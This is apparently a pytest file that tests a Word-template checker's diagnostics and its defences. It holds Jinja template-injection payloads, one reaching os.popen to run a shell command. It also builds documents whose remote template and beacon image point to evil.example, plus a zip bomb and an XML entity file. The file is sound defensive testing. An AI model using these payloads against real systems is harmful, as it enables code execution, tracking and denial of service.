"""What is wrong with a Word template: told in one go with its paragraph; and what somebody's template may not do."""

import zipfile
from pathlib import Path

import pytest
from docx.document import Document
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls
from tests.formats.docx.sheets import parts
from tests.formats.docx.tagged_templates import built, changed, codes, drawn, in_workshop, shown, wrong
from tests.support.kits import run, run_json
from tests.support.ooxml import audit, check_package

_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_RELS = "word/_rels/document.xml.rels"


def test_an_undefined_name_is_told_with_its_paragraph_and_the_near_one(tmp_path: Path) -> None:
    [(code, message, hint)] = wrong(tmp_path, drawn("a", "Deltagere: {{ workshp.title }}"))
    assert (code, message) == ("WK421", "¶2 «Deltagere: {{ workshp.title }}»: «workshp» is not defined here")
    assert hint == "Did you mean «workshop»?"
    shown_line = run("check", tmp_path).stderr.splitlines()[0]
    assert "programme.docx ¶2 «Deltagere: {{ workshp.title }}»: «workshp» is not defined here" in shown_line


def test_all_mistakes_of_all_parts_are_told_in_one_go(tmp_path: Path) -> None:
    def draw(document: Document) -> None:
        document.sections[0].header.paragraphs[0].text = "{{ workshop.titel }}"
        document.add_table(1, 1).cell(0, 0).text = "{{ workshop.first_date | dat }}"

    found = wrong(tmp_path, drawn(
        "{{ nobody }}", "{% for i in workshop['items'] %}{{ i.titl }}{% endfor %}{{ i.title }}",
        "{{ workshop.first_date | date(1) }}", "{{ workshop['items'] }}", "{{ say('nothing') }}", draw=draw,
    ))  # fmt: skip
    told = {message.partition(" «")[0] + " " + message.rpartition(": ")[2] for _, message, _ in found}
    assert {"header ¶1 «titel» is not defined here", "¶1 «nobody» is not defined here", "¶2 «titl» is not defined here",
            "¶2 «i» is not defined here", "¶6 there is no filter «dat»"} <= told  # fmt: skip
    assert {message.partition(" «")[0] for _, message, _ in found} == {"header ¶1", *(f"¶{n}" for n in range(1, 7))}


@pytest.mark.parametrize(
    ("paragraphs", "code"),
    [
        (["{{ workshop.title"], "WK422"),
        (["workshop.title }}"], "WK422"),
        (["{{ }}"], "WK422"),
        (["{{ workshop. }}"], "WK422"),
        (["{% for in x %}{% endfor %}"], "WK422"),
        (["{% for p in workshop.partners if %}{% endfor %}"], "WK422"),
        (["{% for p in if p %}{% endfor %}"], "WK422"),
        (["{% for p in workshop.partners if q %}{% endfor %}"], "WK421"),
        (["{% for p in workshop.partners if loop.first %}{% endfor %}"], "WK421"),
        (["{% for p in workshop.partners if p.name | nothing %}{% endfor %}"], "WK421"),
        (["{% for p in workshop.partners if p.nme %}{% endfor %}"], "WK421"),
        (["{% if %}{% endif %}"], "WK422"),
        (["{% else x %}"], "WK422"),
        (["{%p for p in workshop %}", "{%p endfor %}"], "WK422"),
        (["{%- if 1 -%}{% endif %}"], "WK423"),
        (["{{tr workshop.title }}"], "WK423"),
        (["{% set x = 1 %}"], "WK423"),
        (["{% macro x() %}{% endmacro %}"], "WK423"),
        (["{% include 'x' %}"], "WK423"),
        (["{% cellbg 'red' %}"], "WK423"),
        (["{% for p in workshop.partners %}"], "WK424"),
        (["{% endfor %}"], "WK424"),
        (["{% else %}"], "WK424"),
        (["{% if 1 %}{% else %}{% else %}{% endif %}"], "WK424"),
        (["{% for p in workshop.partners %}{% endif %}{% endfor %}"], "WK424"),
        (["a {% if 1 %}", "{% endif %} b"], "WK424"),
        (["{%p if 1 %} text", "{%p endif %}"], "WK424"),
        (["{%p if 1 %}{%p endif %}"], "WK424"),
        (["{%tr if 1 %}", "{%tr endif %}"], "WK424"),
        (["{%p if 1 %}", "{%tr endif %}"], "WK424"),
        (["{% if 1 %}" * 11 + "{% endif %}" * 11], "WK424"),
        (["{{p body }}", "{{p body }}"], "WK426"),
        (["x {{ body }}"], "WK426"),
        (["{%p for p in workshop.partners %}", "{{p body }}", "{%p endfor %}"], "WK426"),
    ],
)
def test_broken_tags_are_told_by_what_they_are(tmp_path: Path, paragraphs: list[str], code: str) -> None:
    assert code in codes(tmp_path, *paragraphs)


def test_a_block_that_leaves_its_table_is_told(tmp_path: Path) -> None:
    def draw(document: Document) -> None:
        document.add_paragraph("{%p if workshop.client %}")
        document.add_table(1, 1).cell(0, 0).text = "{%p endif %}"
        document.add_table(1, 1).cell(0, 0).text = "{{p body }}"

    assert sorted(codes(tmp_path, draw=draw)) == ["WK424", "WK426"]


@pytest.mark.parametrize("token", ["${name}", "{name}", "[[name]]", "«name»", "{ navn }", "[[ event.date ]]"])
def test_places_of_other_programs_are_told_and_stay(tmp_path: Path, token: str) -> None:
    [(code, message, _)] = wrong(tmp_path, drawn("a", f"Kære {token}, {{{{ workshop.language }}}}"))
    assert (code, message.startswith(f"¶2 «Kære {token}, {{{{ workshop.language }}}}»: ")) == ("WK425", True)
    assert shown(tmp_path, f"Kære {token}") == [f"Kære {token}"]


def test_braces_that_are_no_tokens_are_left_in_peace(tmp_path: Path) -> None:
    assert codes(tmp_path, "{1, 2}", "a {b, c} d; e", "[1]", "«to ord» »et«", "{}") == []


def test_merge_fields_and_tags_in_alternative_texts_are_told(tmp_path: Path) -> None:
    def draw(document: Document) -> None:
        field = (
            f'<w:fldSimple {nsdecls("w")} w:instr=" MERGEFIELD Fornavn "><w:r><w:t>«Fornavn»</w:t></w:r></w:fldSimple>'
        )
        document.add_paragraph("Kære ")._p.append(parse_xml(field))
        mark = f'<w:bookmarkStart {nsdecls("w")} w:id="1" w:name="{{{{ workshop.title }}}}"/>'
        document.add_paragraph()._p.append(parse_xml(mark))

    found = wrong(tmp_path, drawn(draw=draw))
    assert [code for code, _, _ in found] == ["WK425", "WK425"]
    assert any("the merge field «Fornavn»" in message for _, message, _ in found)


HOSTILE = [
    "{{ 'a' * 10**9 }}", "{{ 'a' * 999999999 }}", "{{ [1] * 999999999 }}", "{{ '%999999999d' % 1 }}",
    "{{ cycler.__init__.__globals__.os.popen('touch /tmp/owned').read() }}", "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ workshop.__class__ }}", "{{ workshop._values }}", "{{ self._TemplateReference__context }}", "{{ range(10**9) | list }}",
    "{{ lipsum(999999) }}", "{{ workshop.title.__len__() }}", "{{ say.__globals__ }}", "{{ '{0.__class__}'.format(1) }}",
    "{{ dict(a=1) }}", "{{ namespace() }}", "{{ joiner() }}", "{{ workshop | attr('__class__') }}", "{{ workshop | xmlattr }}",
    "{{ ('x' * 20000) * 20000 }}", "{{ wk_text(0) }}", "{{ wk_for }}", "{{ v0 }}", "{% for x in range(10**9) %}{% endfor %}",
    "{% for x in 10**99 %}{% endfor %}", "{{ 2 ** 99999999 }}",
    "{{ " + "(" * 3000 + ")" * 3000 + " }}", "{{ " + "-" * 50000 + "1 }}",
    "{{ x }} {%raw%}{{ y }}{%endraw%}", "{% import 'os' as os %}", "{% extends 'x' %}", "{% call x() %}{% endcall %}",
    "{% filter upper %}{% endfilter %}", "{% do x %}", "{% block x %}{% endblock %}", "{% if a }}{{ b %}{% endif %}",
]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_a_hostile_tag_is_refused_at_once(tmp_path: Path, text: str) -> None:
    found = codes(tmp_path, text)
    assert set(found) <= {"WK421", "WK422", "WK423", "WK424"}
    assert found


def test_loops_that_never_seem_to_end_are_stopped(tmp_path: Path) -> None:
    loop = "{% for a in 999 %}"
    assert set(codes(tmp_path, loop * 4 + "x" + "{% endfor %}" * 4)) == {"WK427"}
    assert set(codes(tmp_path, "{% for a in 99999999 %}x{% endfor %}")) == {"WK427"}


def test_rounds_of_much_text_are_stopped(tmp_path: Path) -> None:
    found = codes(tmp_path, "{%p for a in 19000 %}", "x" * 50_000, "{%p endfor %}")
    assert found == ["WK427"]


def test_more_tags_than_anybody_writes_are_too_many(tmp_path: Path) -> None:
    assert codes(tmp_path, *["{{ workshop.language }}" * 201] * 10) == ["WK427"]


def test_a_template_attached_from_elsewhere_is_dropped_and_told(tmp_path: Path) -> None:
    path = in_workshop(tmp_path, drawn("x"))
    relation = (
        f'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{_REL}/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/>'
        "</Relationships>"
    ).encode()
    more = {"word/_rels/settings.xml.rels": relation}
    attached = f'<w:attachedTemplate xmlns:r="{_REL}" r:id="rId1"/></w:settings>'.encode()
    changed(path, "word/settings.xml", b"</w:settings>", attached, **more)
    report = run_json("build", tmp_path, "--only", "programme", "--format", "docx")
    assert [(d["code"], "its link to the template" in d["message"]) for d in report["diagnostics"]] == [("WK428", True)]
    data = Path(report["artefacts"][0]["path"]).read_bytes()
    assert b"evil.example" not in b"".join(parts(data).values())
    assert b"attachedTemplate" not in parts(data)["word/settings.xml"]


def test_a_picture_from_elsewhere_is_dropped_and_told_and_a_link_to_click_stays(tmp_path: Path) -> None:
    from PIL import Image

    Image.new("RGB", (8, 8), "navy").save(tmp_path / "logo.png")
    path = in_workshop(tmp_path, drawn("x", draw=lambda document: document.add_picture(str(tmp_path / "logo.png"))))
    outside = (
        f'<Relationship Id="rId90" Type="{_REL}/image" Target="http://evil.example/beacon.png" TargetMode="External"/>'
        f'<Relationship Id="rId91" Type="{_REL}/hyperlink" Target="https://navigators.dk" TargetMode="External"/>'
        "</Relationships>"
    ).encode()
    changed(path, _RELS, b"</Relationships>", outside)
    changed(path, "word/document.xml", b"<a:blip r:embed=", b'<a:blip r:link="rId90" r:embed=')
    report = run_json("build", tmp_path, "--only", "programme", "--format", "docx")
    assert [d["code"] for d in report["diagnostics"]] == ["WK428"]
    found = parts(Path(report["artefacts"][0]["path"]).read_bytes())
    assert b"evil.example" not in b"".join(found.values())
    assert b"navigators.dk" in found[_RELS]
    assert b"r:embed" in found["word/document.xml"]


def test_comments_go_and_tracked_changes_are_accepted(tmp_path: Path) -> None:
    def draw(document: Document) -> None:
        paragraph = document.add_paragraph("a")
        document.add_comment(paragraph.runs, text="Til os", author="Ida")
        for name, text in (("ins", "<w:t>{{ workshop.language }}</w:t>"), ("del", "<w:delText>{{ x</w:delText>")):
            change = f'<w:{name} {nsdecls("w")} w:id="9" w:author="Ida"><w:r>{text}</w:r></w:{name}>'
            paragraph._p.append(parse_xml(change))

    data = built(tmp_path, drawn(draw=draw))
    found = parts(data)
    assert b"Ida" not in b"".join(found.values())
    assert b">da</w:t>" in found["word/document.xml"]
    assert [fault for fault in check_package(data, "docx") + audit(data, "docx") if "customXml" not in fault] == []


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (b"", "WK502"),
        (b"x", "WK504"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "WK503"),
        (b"PK\x05\x06" + bytes(18), "WK505"),
    ],
)
def test_what_is_no_word_file_is_refused(tmp_path: Path, content: bytes, code: str) -> None:
    in_workshop(tmp_path, drawn("x")).write_bytes(content)
    assert code in [d["code"] for d in run_json("check", tmp_path)["diagnostics"]]


def test_bombs_entities_and_other_programs_files_are_refused(tmp_path: Path) -> None:
    path = in_workshop(tmp_path, drawn("x"))
    original = path.read_bytes()
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/bomb.xml", bytes(60_000_000))
    assert [d["code"] for d in run_json("check", tmp_path)["diagnostics"] if d["severity"] != "note"] == ["WK507"]
    path.write_bytes(original)
    changed(path, "word/document.xml", b"<w:document", b'<!DOCTYPE x [<!ENTITY y "z">]><w:document')
    assert [d["code"] for d in run_json("check", tmp_path)["diagnostics"] if d["severity"] != "note"] == ["WK508"]
    master = Path(__file__).parents[3] / "templates/themes/navigators/master.pptx"
    path.write_bytes(master.read_bytes())
    assert [d["code"] for d in run_json("check", tmp_path)["diagnostics"] if d["severity"] != "note"] == ["WK520"]
